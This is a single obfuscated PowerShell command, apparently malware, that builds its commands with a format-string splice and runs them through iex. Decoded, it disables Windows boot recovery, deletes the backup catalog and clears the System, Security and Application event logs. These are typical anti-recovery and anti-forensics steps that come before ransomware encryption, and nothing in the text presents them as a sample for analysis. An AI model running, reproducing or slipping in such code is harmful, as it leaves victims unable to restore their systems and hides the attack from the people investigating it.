iex ("{0}{5}{3}{6}{4}{1}{2}" -f '# task 4096 v4
bcdedit /set {default','rity; wevtutil cl App','lication
','min delete catalog -quiet
wevtu','ystem; wevtutil cl Secu','} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wbad','til cl S')